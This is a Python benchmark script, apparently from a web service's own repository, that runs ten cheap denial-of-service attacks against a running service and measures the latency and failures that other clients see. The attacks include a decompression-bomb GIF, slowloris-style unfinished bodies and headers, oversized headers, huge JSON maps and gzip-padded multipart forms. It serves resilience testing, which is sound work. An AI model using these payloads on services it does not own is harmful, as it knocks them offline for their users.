"""`python -m benchmarks.attacks`: cheap attacks on a running service, and what others notice of each."""

from __future__ import annotations

import asyncio
import gzip
import statistics
import struct
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from secrets import token_hex
from typing import Annotated
from urllib.parse import urlsplit

import httpx
import numpy as np
import typer

from benchmarks.rows import markdown_table
from media.write import encode_image

Attack = Callable[[str, int], Awaitable[Counter[str]]]

COLUMNS = ("attack", "its answers", "readiness at worst, s", "others' p50 before, ms", "during", "others failed")
SECONDS = 25.0
GIF_SIDE, GIF_FRAMES, GIF_CONNECTIONS = 6000, 41, 12
SLOW_BODIES, LARGE_SLOW_BODIES, IDLE_CONNECTIONS = 600, 1400, 500
HEADER_BYTES, HEADER_LINES = 200_000_000, 1_000_000
JSON_KEYS, JSON_REQUESTS = 600_000, 16
FORM_BYTES, FORMS = 60 * 2**20, 8  # 61 KB by gzip
ANSWER_SECONDS = 90.0
PIECE_BYTES = 2**20
UPLOAD = b"POST /encode HTTP/1.1\r\nHost: x\r\nContent-Type: image/png\r\n"
PICTURE = encode_image(np.arange(64 * 64 * 3, dtype=np.uint32).reshape(1, 64, 64, 3).astype(np.uint8), "image/png")


def main(
    attacks: Annotated[list[str] | None, typer.Argument(help="Names; all by default.")] = None,
    url: Annotated[str, typer.Option(help="Address of the service.")] = "http://127.0.0.1:8000",
) -> None:
    """Attack a service and print a table."""
    for line in markdown_table(COLUMNS, (asyncio.run(_try(name, url)) for name in attacks or ATTACKS)):
        print(line, flush=True)


async def gif(host: str, port: int) -> Counter[str]:
    """Send a GIF of a kilobyte that asks for 1.5 billion pixels, over and over."""
    frame = b"!\xf9\x04\x08\x01\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0"
    size = struct.pack("<HHBBB", GIF_SIDE, GIF_SIDE, 0x80, 0, 0)
    data = b"GIF89a" + size + b"\0\0\0\xff\xff\xff" + frame * GIF_FRAMES + b";"
    answers: Counter[str] = Counter()
    until = time.monotonic() + SECONDS
    async with httpx.AsyncClient(base_url=f"http://{host}:{port}", timeout=60, trust_env=False) as client:

        async def send() -> None:
            while time.monotonic() < until:
                query = {"animated": "true", "size": "64", "frames": "9"}
                response = await client.post(
                    "/encode", params=query, content=data, headers={"Content-Type": "image/gif"}
                )
                answers[str(response.status_code)] += 1
                if response.status_code == httpx.codes.SERVICE_UNAVAILABLE:
                    await asyncio.sleep(0.2)

        await asyncio.gather(*(send() for _ in range(GIF_CONNECTIONS)))
    return answers


async def slow_bodies(host: str, port: int) -> Counter[str]:
    """Begin more requests than the service has places for, and never finish their bodies."""
    head = UPLOAD + b"Content-Length: 5000\r\n\r\n\x89PNG"
    return await _all([_exchange(host, port, head) for _ in range(SLOW_BODIES)])


async def large_slow_bodies(host: str, port: int) -> Counter[str]:
    """Begin bodies of a megabyte, too large for HAProxy to wait for, and never finish them."""
    head = UPLOAD + b"Content-Length: 1000000\r\n\r\n\x89PNG"
    return await _all([_exchange(host, port, head) for _ in range(LARGE_SLOW_BODIES)])


async def chunked_bodies(host: str, port: int) -> Counter[str]:
    """Begin bodies in chunks, and never finish them."""
    head = UPLOAD + b"Transfer-Encoding: chunked\r\n\r\n4\r\n\x89PNG\r\n"
    return await _all([_exchange(host, port, head) for _ in range(LARGE_SLOW_BODIES)])


async def idle_connections(host: str, port: int) -> Counter[str]:
    """Open connections; half of them begin a header and stop."""
    parts = (b"", b"POST /encode HTTP/1.1\r\nHost: x\r\nX-A: ")
    return await _all([_exchange(host, port, parts[index % 2]) for index in range(IDLE_CONNECTIONS)])


async def large_header(host: str, port: int) -> Counter[str]:
    """Send one header without end."""
    count = HEADER_BYTES // PIECE_BYTES
    return await _all([_exchange(host, port, b"GET /version HTTP/1.1\r\nX-A: ", b"a" * PIECE_BYTES, count)])


async def many_headers(host: str, port: int) -> Counter[str]:
    """Send a million headers."""
    lines = b"".join(b"X-%d: 1\r\n" % number for number in range(1000))
    return await _all([_exchange(host, port, b"GET /version HTTP/1.1\r\n", lines, HEADER_LINES // 1000)])


async def json_keys(host: str, port: int) -> Counter[str]:
    """Send maps of hundreds of thousands of unknown names."""
    body = b"{%s}" % b",".join(b'"k%d":1' % number for number in range(JSON_KEYS))
    head = b"POST /decode HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(
        body
    )
    return await _all([_exchange(host, port, head + body) for _ in range(JSON_REQUESTS)])


async def padded_forms(host: str, port: int) -> Counter[str]:
    """Send forms whose boundary is followed by a crowd of spaces."""
    return await _forms(host, port, b"--a" + b" " * FORM_BYTES)


async def keyed_forms(host: str, port: int) -> Counter[str]:
    """Send forms of boundaries alone under idempotency keys, which know a form by its parts."""
    return await _forms(host, port, b"--a" * (FORM_BYTES // 3), keyed=True)


async def _forms(host: str, port: int, form: bytes, keyed: bool = False) -> Counter[str]:
    packed = gzip.compress(b'--a\r\nContent-Disposition: form-data; name="media"\r\n\r\nx\r\n' + form)
    head = b"POST /encode HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=a\r\n"
    head += b"Content-Encoding: gzip\r\nContent-Length: %d\r\n" % len(packed)
    keys = [f"Idempotency-Key: {token_hex(8)}\r\n".encode() if keyed else b"" for _ in range(FORMS)]
    return await _all([_exchange(host, port, head + key + b"\r\n" + packed) for key in keys])


ATTACKS: dict[str, Attack] = {
    "gif": gif,
    "slow-bodies": slow_bodies,
    "large-slow-bodies": large_slow_bodies,
    "chunked-bodies": chunked_bodies,
    "idle-connections": idle_connections,
    "large-header": large_header,
    "many-headers": many_headers,
    "json-keys": json_keys,
    "padded-forms": padded_forms,
    "keyed-forms": keyed_forms,
}


async def _try(name: str, url: str) -> tuple[str, ...]:
    parts = urlsplit(url)
    host, port = str(parts.hostname), parts.port or 80
    async with _others(url) as (before, _, _):
        await asyncio.sleep(5.0)
    async with _others(url) as (during, ready, failed):
        started = time.monotonic()
        answers = await ATTACKS[name](host, port)
        seconds = time.monotonic() - started
    given = ", ".join(f"{count} x {answer}" for answer, count in answers.most_common())
    quiet, loud = (1e3 * statistics.median(times) if times else float("nan") for times in (before, during))
    others = f"{quiet:.0f}", f"{loud:.0f}", str(failed.total())
    return f"{name}, {seconds:.0f} s", given, f"{max(ready):.2f}", *others


@asynccontextmanager
async def _others(url: str) -> AsyncIterator[tuple[list[float], list[float], Counter[str]]]:
    """Ask for readiness and encode a picture, one after the other; yield the seconds of both, and what failed."""
    times: list[float] = []
    ready: list[float] = []
    failed: Counter[str] = Counter()
    stop = asyncio.Event()
    headers = {"Content-Type": "image/png"}

    async def encode(client: httpx.AsyncClient) -> None:
        while not stop.is_set():
            started = time.monotonic()
            failed["encode"] += not await _answers(client.post("/encode", content=PICTURE, headers=headers))
            times.append(time.monotonic() - started)

    async def probe(client: httpx.AsyncClient) -> None:
        while not stop.is_set():
            started = time.monotonic()
            failed["ready"] += not await _answers(client.get("/health/ready"))
            ready.append(time.monotonic() - started)
            await asyncio.sleep(0.2)

    async with httpx.AsyncClient(base_url=url, timeout=60, trust_env=False) as client:
        tasks = [asyncio.create_task(work(client)) for work in (encode, probe)]
        try:
            yield times, ready, failed
        finally:
            stop.set()
            await asyncio.gather(*tasks)


async def _answers(call: Awaitable[httpx.Response]) -> bool:
    try:
        return (await call).status_code == httpx.codes.OK
    except httpx.HTTPError:
        return False


async def _all(exchanges: list[Awaitable[str]]) -> Counter[str]:
    return Counter(await asyncio.gather(*exchanges))


async def _exchange(host: str, port: int, head: bytes, piece: bytes = b"", count: int = 0) -> str:
    """Send bytes and return the status of the answer, or how the connection ended."""
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError as error:
        return type(error).__name__
    answer = asyncio.create_task(reader.read(64))
    try:
        writer.write(head)
        for _ in range(count):
            if answer.done():
                break
            writer.write(piece)
            await writer.drain()
        data = await asyncio.wait_for(answer, ANSWER_SECONDS)
    except TimeoutError:
        return "open"
    except OSError:
        return "closed"
    finally:
        answer.cancel()
        writer.close()
    return data[9:12].decode(errors="replace") if data else "closed"


if __name__ == "__main__":
    typer.run(main)
